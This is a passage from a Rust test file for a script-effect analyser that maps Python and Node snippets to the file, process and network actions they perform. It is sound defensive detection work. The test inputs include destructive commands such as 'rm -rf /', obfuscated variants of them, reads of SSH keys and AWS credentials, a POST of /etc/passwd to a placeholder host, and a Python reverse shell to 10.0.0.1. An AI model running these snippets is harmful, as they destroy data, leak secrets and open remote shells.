//! One line a case: the script, then what it does. `?` is an unknown part, a `!` at the end means not complete.

use super::Language::{Awk, Node, Perl, Php, Python, Ruby, Sed};
use super::{Arguments, Language, Origin, ScriptEffectKind, Setting, Text, read};
use toolgate_shell_syntax::path::absolute;

fn text(text: &Text) -> String {
    match text {
        Text::Known(text) => {
            assert!(!text.contains('\0'), "a hole in known text");
            text.replace('\n', "\\n")
        }
        Text::Shape(text) => {
            assert!(text.contains('\0'), "a shape without a hole: {text:?}");
            text.replace('\0', "?").replace('\n', "\\n")
        }
    }
}

fn render(language: Language, script: &str) -> String {
    render_in(language, script, Setting::of(Origin::Text))
}

fn render_in(language: Language, script: &str, setting: Setting) -> String {
    let script = read(language, script, setting);
    // Every import may load a file; which do is seen where the files are known.
    let effects = script
        .effects
        .iter()
        .filter(|effect| !matches!(effect.what, ScriptEffectKind::Load(_)))
        .map(|effect| said(&effect.what));
    let mut line = effects.collect::<Vec<_>>().join("; ");
    if !script.complete {
        line.push('!');
    }
    line
}

fn said(what: &ScriptEffectKind) -> String {
    match what {
        ScriptEffectKind::Read(path) | ScriptEffectKind::List(path) => format!("read {}", text(path)),
        ScriptEffectKind::Return => "return".to_owned(),
        ScriptEffectKind::Empty(path) => format!("empty {}", text(path)),
        ScriptEffectKind::Write(path) => format!("write {}", text(path)),
        ScriptEffectKind::Append(path) => format!("append {}", text(path)),
        ScriptEffectKind::HardLink(path) => format!("hard link {}", text(path)),
        ScriptEffectKind::Create { path, folder: false } => format!("create {}", text(path)),
        ScriptEffectKind::Create { path, folder: true } => format!("mkdir {}", text(path)),
        ScriptEffectKind::Delete { path, recursive: false } => format!("delete {}", text(path)),
        ScriptEffectKind::Delete { path, recursive: true } => format!("tree {}", text(path)),
        ScriptEffectKind::Move { from, to } => format!("move {} > {}", text(from), text(to)),
        ScriptEffectKind::Copy { from, to } => format!("copy {} > {}", text(from), text(to)),
        ScriptEffectKind::Mode { path, mode: None } => format!("mode {}", text(path)),
        ScriptEffectKind::Mode { path, mode: Some(mode) } => format!("mode {} {mode}", text(path)),
        ScriptEffectKind::Chdir(path) => format!("cd {}", text(path)),
        ScriptEffectKind::Shell(command) => format!("sh {}", text(command)),
        ScriptEffectKind::Run(words) => format!("run {}", words.iter().map(text).collect::<Vec<_>>().join(",")),
        ScriptEffectKind::Eval(code) => format!("eval {}", text(code)),
        ScriptEffectKind::Load(path) => format!("load {}", text(path)),
        ScriptEffectKind::Send(host) => format!("send {}", text(host)),
        ScriptEffectKind::In { folder, what } => format!("in {}: {}", text(folder), said(what)),
    }
}

fn check(language: Language, cases: &[(&str, &str)]) {
    let mut wrong = String::new();
    for (script, expected) in cases {
        let found = render(language, script);
        if found != *expected {
            wrong.push_str(&format!("\n{script}\n  expected: {expected}\n  found:    {found}\n"));
        }
    }
    assert!(wrong.is_empty(), "{language:?}{wrong}");
}

#[rustfmt::skip]
#[test]
fn python() {
    check(Python, &[
        // Plain calls.
        ("import os; os.remove('/etc/x')", "delete /etc/x"),
        ("import os\nos.unlink(\"a b\")", "delete a b"),
        ("import os; os.rmdir('d'); os.removedirs('a/b')", "delete d; delete a/b"),
        ("import os; os.mkdir('d'); os.makedirs('a/b', exist_ok=True)", "mkdir d; mkdir a/b"),
        ("import os; os.rename('a','b'); os.replace('c', 'd')", "move a > b; move c > d"),
        ("import os; os.chmod('x', 0o777); os.chown('y', 0, 0)", "mode x 777; mode y"),
        ("import os; os.symlink('/etc/passwd', 'l'); os.link('a', 'b')", "read /etc/passwd; create l; hard link a; create b"),
        ("import os; os.truncate('x', 0)", "write x"),
        ("import os; os.chdir('/tmp'); os.remove('x')", "cd /tmp; delete x"),
        ("import shutil; shutil.rmtree('/home/u')", "tree /home/u"),
        ("import shutil; shutil.rmtree(path='/home/u', ignore_errors=True)", "tree /home/u"),
        ("import shutil; shutil.copy('a','b'); shutil.copytree('c','d'); shutil.move('e','f')", "copy a > b; copy c > d; move e > f"),
        ("import os; os.system('rm -rf /')", "sh rm -rf /"),
        ("import os; os.popen(\"ls -la\").read()", "sh ls -la"),
        ("import os; print(os.listdir('/root'))", "read /root"),
        // Opening files.
        ("open('x').read()", "read x"),
        ("open('x','w').write('hello')", "write x"),
        ("open('x', mode='a')", "append x"),
        ("open('x','xb')", "create x"),
        ("open('x','r+')", "read x; write x"),
        ("open('x','rb')", "read x"),
        ("open(mode='wb', file='y')", "write y"),
        ("with open('x', 'w') as f, open('y') as g: f.write(g.read())", "write x; read y"),
        ("with open('x', 'w') as f:\n    f.write('open(\"z\", \"w\")')", "write x"),
        ("import sys; open('x', sys.argv[1])", "write x"),
        ("import json; json.dump({}, open('o.json','w'))", "write o.json"),
        ("import io; io.open('x','w')", "write x"),
        ("import os; os.open('x', os.O_WRONLY|os.O_CREAT)", "write x"),
        ("import os; os.open('x', os.O_RDONLY)", "read x"),
        ("open(0).read()", ""),
        ("import gzip; gzip.open('x.gz','wb')", "write x.gz"),
        // pathlib.
        ("from pathlib import Path; Path('x').write_text('y')", "write x"),
        ("from pathlib import Path; (Path('a') / 'b' / 'c').unlink()", "delete a/b/c"),
        ("from pathlib import Path; p = Path('a')/'b'; p.mkdir(parents=True); p.rename('c')", "mkdir a/b; move a/b > c"),
        ("import pathlib; pathlib.Path('x').open('w'); pathlib.Path('y').read_text()", "write x; read y"),
        ("import pathlib; pathlib.Path.home().joinpath('.ssh', 'id_rsa').read_bytes()", "read ~/.ssh/id_rsa"),
        ("from pathlib import Path; (Path.home() / '.bashrc').unlink()", "delete ~/.bashrc"),
        ("from pathlib import Path\nfor f in Path('d').glob('*.py'):\n    f.unlink()", "delete d/?.py"),
        ("from pathlib import Path; [p.unlink() for p in Path('.').iterdir()]", "read .; delete ./?; empty ./"),
        ("from pathlib import Path; Path('a/b/c').parent.rmdir()", "delete a/b"),
        ("from pathlib import Path; Path('~/x').expanduser().unlink()", "delete ~/x"),
        ("from pathlib import Path; Path('x').touch(); Path('x').chmod(0o600)", "create x; mode x 600"),
        // Imports under other names.
        ("import os as o; o.remove('x')", "delete x"),
        ("from os import remove as r; r('x')", "delete x"),
        ("from shutil import *; rmtree('x')", "tree x"),
        ("from os import *; system('id')", "sh id"),
        ("from shutil import copytree, rmtree as wipe; wipe('/private/tmp')", "tree /private/tmp"),
        ("from shutil import rmtree as wipe; wipe = print; wipe('/tmp')", ""),
        ("__import__('os').system('id')", "sh id"),
        ("import importlib; importlib.import_module('shutil').rmtree('x')", "tree x"),
        ("import sys, os; sys.modules['os'].remove('x')", "delete x"),
        ("import shutil; shutil.os.system('id')", "sh id"),
        ("import subprocess; subprocess.os.remove('x')", "delete x"),
        ("r = __import__('os').remove\nr('x')", "delete x"),
        ("import posix; posix.unlink('x')", "delete x"),
        ("(lambda p: __import__('shutil').rmtree(p))('/x')", "tree /x"),
        ("import os\nos.__dict__['system']('id')", "sh id"),
        ("__builtins__.__import__('os').system('id')", "sh id"),
        ("import builtins; builtins.open('x','w')", "write x"),
        ("import builtins; builtins.exec('1')", "eval 1"),
        // Names made of texts.
        ("import os; getattr(os,'system')('id')", "sh id"),
        ("import os; getattr(os, 'sys' + 'tem')('id')", "sh id"),
        ("import os; getattr(os, input())('id')", "eval ?!"),
        ("globals()['os'].remove('x')", "delete x"),
        ("import os; vars(os)['remove']('x')", "delete x"),
        ("import os; f = {'a': os.remove}; f['a']('x')", "delete x"),
        ("import os; [os.remove][0]('x')", "delete x"),
        // Values.
        ("p='/etc'; p2 = p + '/x'\nimport os; os.remove(p2)", "delete /etc/x"),
        ("from shutil import rmtree as wipe; wipe('/tmp/build' + '/..')", "tree /tmp/build/.."),
        ("import os; os.remove(os.path.join('a','b','/c','d'))", "delete /c/d"),
        ("import os; os.remove(os.path.join('a','b'))", "delete a/b"),
        ("import os; os.remove(os.path.expanduser('~/x'))", "delete ~/x"),
        ("import os; os.remove(os.environ['HOME'] + '/x')", "delete ~/x"),
        ("import os; os.remove(os.environ.get('HOME') + '/x')", "delete ~/x"),
        ("import os; os.system('rm -rf ' + os.environ['HOME'])", "sh rm -rf $HOME"),
        ("import os; os.remove(f'{os.getenv(\"HOME\")}/x')", "delete ~/x"),
        ("import os; os.remove(os.environ['X'] + '/x')", "delete ?/x"),
        ("import os, sys; os.remove(f'/tmp/{sys.argv[1]}.txt')", "delete /tmp/?.txt"),
        ("n = 'x'; import os; os.remove(f'/tmp/{n}.txt')", "delete /tmp/x.txt"),
        ("n = 'x'; import os; os.remove(f'/tmp/{n!r:>10}{{}}.txt')", "delete /tmp/?{}.txt"),
        ("import os; os.remove('/tmp/%s/%s' % ('a', 'b'))", "delete /tmp/a/b"),
        ("import os; os.remove('/tmp/{}/{x}'.format('a', x='b'))", "delete /tmp/a/b"),
        ("import os; os.remove('a' 'b' \"c\")", "delete abc"),
        ("import os; os.remove(r'a\\n'); os.remove('a\\x62\\143')", "delete a\\n; delete abc"),
        ("import os; os.remove('''x''')", "delete x"),
        ("import os; os.remove(b'x')", "delete x"),
        ("import os; os.remove(os.getcwd() + '/x')", "delete ./x"),
        ("import os; a, b = 'x', 'y'; os.rename(a, b)", "move x > y"),
        ("import os; os.remove((p := 'x')); os.remove(p)", "delete x; delete x"),
        ("import os; x: str = 'a'; os.remove(x)", "delete a"),
        ("import os; d = 'a'; d += '/b'; os.remove(d)", "delete a/b"),
        ("import os; d = {'p': 'x'}; os.remove(d['p'])", "delete x"),
        ("from pathlib import Path\nimport shutil\nr = Path.home() / 'p'\nfor n in ('a', 'b'):\n  t = r / n\n  shutil.rmtree(t)", "tree ~/p/a; tree ~/p/b"),
        ("import os; os.system('%(a)s x' % {'a': 'rm'})", "sh ? x!"),
        ("import os\ns = ''\nfor i in x: s += 'a'\nos.remove(s)", "delete ?a; delete a; delete ?"),
        ("import os\nfor p in ['a','b']: os.remove(p)", "delete a; delete b"),
        ("import os\nfor p in ('a','b'):\n  if os.path.exists(p):\n    os.remove(p)", "delete a; delete b"),
        ("import os; [os.remove(p) for p in ['a','b']]", "delete a; delete b"),
        ("import os; any(os.remove('/t/' + p) for p in ['a','b'])", "delete /t/a; delete /t/b"),
        ("import subprocess\np = ['x']\ndef f(l): l.append('-rf')\nf(p)\nsubprocess.run(p)", "run ?!"),
        ("import os\nd = {'p': 'x'}\nd.update(p='/etc')\nos.remove(d['p'])", "delete x; delete /etc"),
        ("import os\nd = {'p': 'x'}\nd['p'] = '/etc'\nos.remove(d['p'])", "delete x; delete /etc"),
        ("import os\nd = {}\nd['p'] = '/etc'\nd['q'] = '/x'\nos.remove(d['p']); os.remove(d['q'])", "delete /etc; delete /x"),
        ("import os\nl = ['a', 'b']\nl[0] = '/etc'\nos.remove(l[0]); os.remove(l[1])", "delete /etc; delete b"),
        ("import os\nos.environ['D'] = 'x'\nos.remove('/y')", "delete /y"),
        ("import os\na = 'x'\nglobals()['a'] = '/etc'\nos.remove(a)", "delete /etc"),
        ("import os\na = 'x'\ndef g():\n  global a\n  a = '/etc'\ng(); os.remove(a)", "delete ?; delete x; delete /etc"),
        ("import os; list(map(os.remove, ['a','b']))", "delete a; delete b"),
        ("import os\nfor d, n in [('a','b'),('c','d')]: os.rename(d, n)", "move a > b; move a > d; move c > b; move c > d"),
        ("import os\nfor r, ds, fs in os.walk('x'):\n  for f in fs: os.remove(os.path.join(r, f))", "read x; delete x/?/?; delete x/?; empty x/"),
        ("import glob, os\nfor f in glob.glob('/tmp/*.log'): os.remove(f)", "read /tmp; delete /tmp/?.log"),
        ("import os; p = 'a' if os.getuid() else 'b'; os.remove(p)", "delete a; delete b"),
        ("import os; p = None or 'b'; os.remove(p)", "delete b"),
        ("import os\np = '/tmp/a'\nif x:\n  p = '/etc/passwd'\nos.remove(p)", "delete ?; delete /tmp/a; delete /etc/passwd"),
        ("import os\np = '/tmp/a'\nfor i in range(2):\n  os.remove(p)\n  p = '/etc/passwd'", "delete ?; delete /tmp/a"),
        ("import os\np = 'a'\nos.remove(p)\np = 'b'\nos.remove(p)", "delete a; delete b"),
        // Functions of the script.
        ("import os\ndef f(p):\n  os.remove(p)\nf('x'); f('y')", "delete x; delete y"),
        ("import os\ndef f(p):\n  os.remove(p)\n", ""),
        ("import os\ndef f():\n  os.remove('x')\nprint(1)", ""),
        ("import os\ndef f():\n  os.remove('x')\nglobals()['f']()", "delete x"),
        ("import os\ndef f():\n  os.remove('x')\nprint(f'{f()}')", "delete x"),
        ("import os, atexit\n@atexit.register\ndef f():\n  os.remove('x')", "delete x"),
        ("import os, other\ndef f():\n  os.remove('x')", "delete x"),
        ("from os import *\ndef f():\n  remove('x')", "delete x"),
        ("import os\nclass A:\n  def __del__(self):\n    os.remove('x')\nA()", "delete x"),
        ("import os\ndef f(p, q='b'):\n  os.rename(p, q)\nf('a'); f(q='c', p='d'); f(*['e', 'f'])", "move a > b; move d > c; move e > f"),
        ("import os\ndef f(*ps):\n  for p in ps: os.remove(p)\nf('a', 'b')", "delete a; delete b"),
        ("import subprocess\ndef run(c, **kw):\n  subprocess.run(c, shell=True, **kw)\nrun('rm x')", "sh rm x"),
        ("import os\ndef f(p='x'):\n  return p + '/y'\nos.remove(f('a'))", "delete a/y"),
        ("import os\nclass A:\n  def go(self, p):\n    os.remove(p)\nA().go('x')", "delete x; delete ?"),
        ("import os\nclass A:\n  def __init__(self, p):\n    self.p = p\n  def go(self):\n    os.remove(self.p + '/x')\nA('/a').go()", "delete /a/x; delete ?/x; delete /a/x; delete ?/x"),
        ("import os\nclass A:\n  P = '/a'\nos.remove(A.P + '/x')", "delete /a/x; delete ?/x"),
        ("import os\nclass A:\n  def __init__(self):\n    self.l = []\n  def go(self):\n    self.l.append('/x'); os.remove(self.l[0])\nA().go()", "delete ?; delete ?"),
        ("import os\ndef f(n):\n  os.remove(n); f(n + 'x')\nf('a')", "delete a; delete ?"),
        ("import os\nf = lambda p: os.remove(p)\nf('x')", "delete x"),
        ("import os\ndef f(p):\n  return lambda: os.remove(p)\np = '/tmp'\nf('/etc/passwd')()", "delete /etc/passwd"),
        ("import os\ndef main():\n  p = 'x'\n  os.remove(p)\nmain()", "delete x"),
        ("import os, threading; threading.Thread(target=os.remove, args=('x',)).start()", "delete x"),
        ("import os, functools; functools.partial(os.remove, 'x')()", "delete x"),
        ("import os, atexit; atexit.register(os.remove, 'x')", "delete x"),
        // Processes.
        ("import subprocess; subprocess.run(['rm','-rf','x'])", "run rm,-rf,x"),
        ("import subprocess; subprocess.run('rm -rf x', shell=True)", "sh rm -rf x"),
        ("import subprocess as s; s.check_output(args=['id'])", "run id"),
        ("from subprocess import Popen, PIPE; Popen(['a'], stdout=PIPE, stderr=PIPE)", "run a"),
        ("import subprocess; subprocess.call('ls')", "run ls"),
        ("import subprocess; subprocess.run(['rm -rf x'], shell=True)", "sh rm -rf x"),
        ("import subprocess; subprocess.run(['rm'] + ['-rf', '/'])", "run rm,-rf,/"),
        ("import subprocess; c = ['rm']; c.append('-rf'); c += ['/']; subprocess.run(c)", "run rm,-rf,/"),
        ("import subprocess; c = ['rm', *['-rf', '/']]; subprocess.run(c)", "run rm,-rf,/"),
        ("import subprocess; subprocess.run('rm -rf /'.split())", "run rm,-rf,/"),
        ("import subprocess, shlex; subprocess.run(shlex.split('rm -rf /'))", "run rm,-rf,/"),
        ("import subprocess; subprocess.run(['rm','-rf','x'], cwd='/etc')", "sh cd '/etc' && 'rm' '-rf' 'x'"),
        ("import subprocess; subprocess.run('rm x', shell=True, cwd='/etc')", "sh cd '/etc' && { rm x\\n}"),
        // What is not known of it is one word, or the folder.
        ("import subprocess; subprocess.run(['git','log',input()], cwd='d')", "in d: run git,log,?"),
        ("import subprocess; subprocess.run(['rm','-rf','x'], cwd=input())", "in ?: run rm,-rf,x"),
        ("import subprocess; subprocess.run('rm x', shell=True, cwd=input())", "in ?: sh rm x"),
        ("import subprocess; subprocess.run('rm ' + input(), shell=True, cwd=input())", "sh cd '?' && { rm ?\\n}"),
        ("import subprocess; subprocess.run([input(), 'x'], cwd='d')", "in d: run ?,x!"),
        ("import subprocess; subprocess.run(['a'], cwd='d' if x else 'e')", "sh cd 'd' && 'a'; sh cd 'e' && 'a'"),
        ("import subprocess; subprocess.run(['bash'], input='rm -rf /', text=True)", "run bash; sh rm -rf /"),
        ("import subprocess; subprocess.run(**kw)", "!"),
        ("import subprocess, sys; subprocess.run([sys.executable, '-m', 'pip'])", "run python3,-m,pip"),
        ("import subprocess, sys; subprocess.run(sys.argv[1:])", "run ?!"),
        ("import subprocess, sys; subprocess.run(['git', 'add', *sys.argv])", "run git,add,?"),
        ("import subprocess; subprocess.getoutput('id')", "sh id"),
        ("import os; os.execvp('rm', ['rm','-rf','x'])", "run rm,-rf,x"),
        ("import os; os.execl('/bin/rm','rm','-rf','x')", "run /bin/rm,-rf,x"),
        ("import os; os.spawnlp(os.P_WAIT, 'rm', 'rm', 'x')", "run rm,x"),
        ("import pty; pty.spawn('/bin/bash')", "run /bin/bash"),
        ("import pty; pty.spawn(['rm','x'])", "run rm,x"),
        ("import os; os.posix_spawn('/bin/rm', ['rm','x'], {})", "run /bin/rm,x"),
        ("import asyncio; asyncio.run(asyncio.create_subprocess_shell('rm x'))", "sh rm x"),
        ("f = __import__('os').system if 1 else print; f('id')", "sh id"),
        // Code.
        ("exec('import os')", "eval import os"),
        ("eval(compile('1+1','','eval'))", "eval 1+1"),
        ("exec(open('x').read())", "read x; eval ?!"),
        ("import base64; exec(base64.b64decode('aW1wb3J0IG9z'))", "eval import os"),
        ("import base64; exec(base64.b64decode(b'aW1wb3J0IG9z').decode('utf-8'))", "eval import os"),
        ("import os,base64; os.system(base64.b64decode('cm0gLXJmIC8=').decode())", "sh rm -rf /"),
        ("import base64, os; os.system(base64.urlsafe_b64decode(payload).decode())", "sh ?!"),
        ("import base64, subprocess; subprocess.check_call(base64.b64decode(payload), shell=True,)", "sh ?!"),
        ("import os; os.system(bytes.fromhex('726d202d7266202f').decode())", "sh rm -rf /"),
        ("import os; os.system(chr(114)+chr(109)+' -rf /')", "sh rm -rf /"),
        ("import os; os.system(''.join(['r','m',' x']))", "sh rm x"),
        ("import os; os.system(''.join(chr(c) for c in [105]))", "sh i"),
        ("import os; os.system('/ fr- mr'[::-1])", "sh rm -rf /"),
        ("import os; os.system('xrm y'[1:])", "sh rm y"),
        ("import codecs, os; os.system(codecs.decode('ez k', 'rot13'))", "sh rm x"),
        ("import os; os.system(''.join(reversed('di')))", "sh id"),
        ("import os; os.system('r m'.replace(' ', '') + ' x')", "sh rm x"),
        ("import os; os.system(bytes([105,100]))", "sh id"),
        ("exec(__import__('base64').b64decode('aWQ='))", "eval id"),
        ("import ctypes; ctypes.CDLL(None).unlink(b'x')", "delete x!"),
        ("().__class__.__bases__[0].__subclasses__()", "!"),
        ("import pickle; pickle.loads(b'x')", "!"),
        // The network.
        ("import urllib.request; urllib.request.urlopen('https://a/b')", "send https://a/b"),
        ("urlopen('https://example.com/a/b')", "send https://example.com/a/b"),
        ("from urllib.request import urlopen as u; u('http://a')", "send http://a"),
        ("import requests; requests.post('http://a', data=open('/etc/passwd').read())", "read /etc/passwd; send http://a"),
        ("import socket; s=socket.socket(); s.connect(('10.0.0.1', 99))", "send 10.0.0.1"),
        ("import urllib.request; urllib.request.urlretrieve('http://a/x', 'y')", "send http://a/x; write y"),
        ("import http.client; http.client.HTTPSConnection('a.b')", "send a.b"),
        ("import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',1));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])", "send 10.0.0.1; run /bin/sh,-i"),
        // Look-alikes.
        ("print('rm -rf /')", ""),
        ("# import os; os.remove('x')\nprint(1)", ""),
        ("'''\nos.remove('x')\n'''", ""),
        ("print(\"os.system('rm -rf /')\")", ""),
        ("l = ['a']; l.remove('a')", ""),
        ("s = 'a'.replace('a', 'b')", ""),
        ("import re; re.compile('x').match('y')", ""),
        ("d = {}; d.update({'a': 1}); d.pop('a')", ""),
        ("import json,sys; print(json.load(sys.stdin)['a']['b'])", ""),
        ("import sys\nfor line in sys.stdin:\n    print(line.rstrip().split()[0])", ""),
        ("import os; print(os.getcwd(), os.environ.get('PATH'), os.path.exists('x'))", ""),
        ("x = dict(open='x'); remove = 3; print(remove)", ""),
        ("s = set(); s.add(1); s.remove(1); s.copy()", ""),
        ("import datetime; datetime.datetime.now().replace(hour=1)", ""),
        ("class os:\n  pass\nprint(os)", ""),
        ("def remove(x): print(x)\nremove('/etc/passwd')", ""),
        ("import math; print(math.pi * 2 ** 3 // 4 % 5)", ""),
        ("print(f'{1+1} rm {\"a\" if 1 else \"b\"}')", ""),
        ("import platform; print(platform.system())", ""),
        ("import time; time.sleep(1)", ""),
        ("import hashlib; print(hashlib.sha256(b'x').hexdigest())", ""),
        ("import collections; c = collections.Counter(); c.update('x')", ""),
        ("print({k: v for k, v in {'a': 1}.items()})", ""),
        // What is not known.
        ("import mymodule; mymodule.go()", "!"),
        ("import os; os.frobnicate('x')", "!"),
        ("import os; g(os)", "!"),
        ("p.unlink()", "delete ?"),
        ("def f(m): m.system('id')\nimport os; f(os)", "sh id"),
        ("os.remove('x", "delete x!"),
        ("𝘰𝘴.remove('x')", "!"),
        ("import os; l = ['/x','t']; l.pop(); os.system('rm -rf ' + l[-1])", "sh rm -rf /x"),
        ("import os; l = ['/x','t']; l.reverse(); os.system('rm -rf ' + l[-1])", "sh rm -rf /x"),
        ("import os; l = ['/x','t']; del l[0]; os.system('rm ' + l[0])", "sh rm ?; sh rm /x; sh rm t"),
        ("import os; l = ['t','/x']; l.sort(); os.remove(l[0])", "delete ?; delete t; delete /x"),
        ("import os, random; l = ['t','/x']; random.shuffle(l); os.remove(l[0])", "delete ?; delete t; delete /x"),
        ("import os; l = ['t','/x']; l.index('t'); os.remove(l[1])", "delete /x"),
        ("import os\nl = ['t']\nfor i in [1, 2]:\n  os.remove(l[0]); l[0] = '/x'", "delete ?; delete t"),
        ("import os; os.remove(sorted(['t','/x'])[0])", "delete t; delete /x"),
        ("import os; os.remove(sorted(['t','/x'])[1])", "delete ?"),
        ("import os\nfor p in sorted(['a','b']): os.remove(p)", "delete a; delete b"),
        ("import os; os.system('rm /x'.replace('/x', 't', 0))", "sh ?!"),
        ("import os; os.system('a rm x'.split(' ', 1)[1]); os.remove('/a/b'.rsplit('/', 1)[0])", "sh rm x; delete /a"),
        ("import os; os.system('x-r- -m-r'[::-2])", "sh ?!"),
        ("import os; os.system('rm x'[0:4:1])", "sh ?!"),
        ("import os; os.remove('a-b'.replace('-', '/')); os.remove(' x '.strip()); os.remove('a,b'.split(',')[1])", "delete a/b; delete x; delete b"),
        ("import os; os.remove(list({'/x': 't'})[0])", "delete /x"),
        ("import os\nfor p in {'/x': 't'}: os.remove(p)", "delete /x"),
        ("import os; os.system('rm -rf t' + ''.join('/..' for i in [1, 2]))", "sh rm -rf t/../.."),
        ("import os; os.remove([p for p in ['t', '/x'] if p != 't'][0])", "delete t; delete /x"),
        ("import os; os.remove(list(filter(lambda x: 't', ['/x']))[0])", "delete /x"),
        ("import os as o\nif x: o = y\no.remove('/x')", "delete /x"),
        ("import os; os.system('ls {:s}; {}'.format('a', 'rm x'))", "sh ls ?; rm x"),
        ("import os\nd = os.environ.get('D') or os.environ['HOME']\nfor n in ('a', 'b'): os.remove(os.path.join(d, n))", "delete ?/a; delete ?/b; delete ~/a; delete ~/b"),
        ("from pathlib import Path\nfor n in ['a', 'b']: Path.home().joinpath('.ssh', n).read_text()", "read ~/.ssh/a; read ~/.ssh/b"),
        ("import os\nfor i, p in enumerate(['a', 'b']): os.remove(p)\nfor q, r in zip(['c'], ['d']): os.rename(q, r)", "delete a; delete b; move c > d"),
        ("import os\nfor i, p in enumerate(f): os.remove(p)", "delete ?"),
        ("import os; os.remove(next(iter(['a']))); os.remove(next((p for p in ['b'] if x), None))", "delete a; delete b; delete ?"),
        ("import os; os.remove('/a/'.rstrip('/')); os.remove('a.py'.removesuffix('.py')); os.remove('d=/x'.partition('=')[2])", "delete /a; delete a; delete /x"),
        ("import os\nfor p in 'a\\nb'.splitlines(): os.remove(p)", "delete a; delete b"),
        ("import configparser, os\nc = configparser.ConfigParser()\nc.read(os.path.expanduser('~/.aws/credentials'))", "read ~/.aws/credentials"),
        ("import tarfile; tarfile.open('x').extractall('/root'); import shutil; shutil.unpack_archive('x.zip', 'out')", "read x; write /root/?; write out/?!"),
        // What is above the folder where it runs.
        ("from pathlib import Path; import shutil; shutil.rmtree(Path.cwd().parent / 'x')", "tree ../x"),
        ("import os; os.remove(os.path.join(os.path.dirname(os.getcwd()), 'x'))", "delete ../x"),
        ("from pathlib import Path; (Path('a').resolve().parent.parent / 'x').unlink(); (Path('a/b').parent / 'x').unlink()", "delete ../x; delete a/x"),
        ("from pathlib import Path; (Path.cwd().parents[1] / 'x').unlink(); Path.cwd().with_name('y').unlink()", "delete ../../x; delete ../y"),
        ("from pathlib import Path; (Path.home().parent / 'x').unlink()", "delete ~/../x"),
        ("import os; os.remove('/'.join(os.getcwd().split('/')[:-1]) + '/x')", "delete ../x"),
        ("import os; os.remove(os.getcwd().rsplit('/', 1)[0] + '/x')", "delete ../x"),
        ("import os; h, t = os.path.split('/a/b'); os.remove(h)", "delete /a"),
        ("import os; os.makedirs(os.path.dirname('out/a.txt')); os.remove('/tmp/' + os.path.basename(os.getcwd()))", "mkdir out; delete /tmp/?"),
        ("import os\np = os.getcwd()\nwhile x:\n  p = os.path.dirname(p)\nos.remove(p + '/x')", "delete ?/x; delete ./x; delete ?/x"),
    ]);
}

#[rustfmt::skip]
#[test]
fn node() {
    check(Node, &[
        ("require('fs').unlinkSync('x')", "delete x"),
        ("require('node:fs').rmSync('x', {recursive: true, force: true})", "tree x"),
        ("const fs = require('fs'); fs.rmSync('x')", "delete x"),
        ("const {rmSync, unlinkSync: u} = require('fs'); rmSync('x', {recursive:true}); u('y')", "tree x; delete y"),
        ("const {promises: {rm, unlink}} = require('fs'); rm('x', {recursive: true}); unlink('y')", "tree x; delete y"),
        ("var r = global['req'+'uire'] || require; r('child_process')['execSync']('id')", "sh id"),
        ("const del = ({path}) => fs.unlinkSync(path); del({path: 'x'})", "delete x"),
        ("Object.entries({a:'x'}).forEach(([k, v]) => fs.unlinkSync(v))", "delete x"),
        ("const f = ([a, b], c) => fs.unlinkSync(b); f(['x', 'y'], 'z')", "delete y"),
        ("const f = (...ps) => ps.forEach(p => fs.unlinkSync(p)); f('x', 'y')", "delete x; delete y"),
        ("const f = (p = 'x') => fs.unlinkSync(p); f()", "delete x"),
        ("let s = ''; for (let i = 0; i < 3; i++) s += 'a'; fs.rmSync(s)", "delete ?a; delete a; delete ?"),
        ("const a = x => y => fs.unlinkSync(x + y); a('p')('q')", "delete pq"),
        ("import { spawn } from 'node:child_process'\nconst c = spawn('rm', ['-rf', process.env.HOME])\nc.on('close', (code) => console.log(`exit ${code}`))", "run rm,-rf,~"),
        ("import fs from 'fs'; fs.writeFileSync('x', 'y')", "write x"),
        ("import * as f from 'node:fs/promises'; await f.unlink('x')", "delete x"),
        ("import {rm as r, writeFile} from 'fs/promises'; await r('x',{recursive:true}); await writeFile('y','')", "tree x; write y"),
        ("(await import('fs')).unlinkSync('x')", "delete x"),
        ("import('fs').then(f => f.unlinkSync('x'))", "delete x"),
        ("fs.promises.rm('x')", "delete x"),
        ("fs.unlink('x', (e) => { console.log(e) })", "delete x"),
        ("const fs = require('fs').promises; (async () => { await fs.mkdir('d'); })()", "mkdir d"),
        ("fs.appendFileSync('x','y'); fs.renameSync('a','b'); fs.copyFileSync('c','d'); fs.cpSync('e','f',{recursive:true})", "append x; move a > b; copy c > d; copy e > f"),
        ("fs.readFileSync('/etc/passwd','utf8'); fs.readdirSync('.')", "read /etc/passwd; read ."),
        ("fs.chmodSync('x',0o777); fs.symlinkSync('a','b'); fs.truncateSync('c')", "mode x 777; create b; write c"),
        ("fs.openSync('x','w'); fs.openSync('y'); fs.openSync('z', 'a+')", "write x; read y; append z"),
        ("fs.createWriteStream('x',{flags:'a'}); fs.createWriteStream('y')", "append x; write y"),
        ("fs.writeFileSync('x','y',{flag:'a'})", "append x"),
        ("fs['unlinkSync']('x')", "delete x"),
        ("fs['unlink'+'Sync']('x')", "delete x"),
        ("const m = 'unlinkSync'; fs[m]('x')", "delete x"),
        ("fs[process.argv[1]]('x')", "eval ?!"),
        ("fs?.unlinkSync?.('x')", "delete x"),
        ("f\\u0073.unlinkSync('x')", "delete x"),
        ("globalThis.require('fs').unlinkSync('x')", "delete x"),
        ("process.mainModule.require('child_process').execSync('id')", "sh id"),
        ("module.constructor._load('child_process').execSync('id')", "sh id"),
        ("process.getBuiltinModule('fs').rmSync('x')", "delete x"),
        ("(0, fs.unlinkSync)('x')", "delete x"),
        ("fs.unlinkSync.call(null, 'x'); fs.unlinkSync.apply(fs, ['y'])", "delete x; delete y"),
        ("const del = fs.unlinkSync.bind(fs); del('x')", "delete x"),
        ("Reflect.apply(fs.unlinkSync, fs, ['x'])", "delete x"),
        // Values.
        ("const p = require('path'); fs.rmSync(p.join('a', 'b'), {recursive:true})", "tree a/b"),
        ("fs.rmSync(path.resolve('/a', '/b', 'c'))", "delete /b/c"),
        ("fs.rmSync(process.env.HOME + '/x')", "delete ~/x"),
        ("fs.rmSync(`${process.env.HOME}/x`)", "delete ~/x"),
        ("fs.rmSync(`${os.homedir()}/x`)", "delete ~/x"),
        ("const {HOME} = process.env; fs.rmSync(HOME + '/x')", "delete ~/x"),
        ("fs.rmSync(process.env['HOME'] + '/x')", "delete ~/x"),
        ("fs.rmSync(`/tmp/${process.argv[2]}.txt`)", "delete /tmp/?.txt"),
        ("fs.rmSync(__dirname + '/x'); fs.rmSync(process.cwd() + '/y')", "delete ./x; delete ./y"),
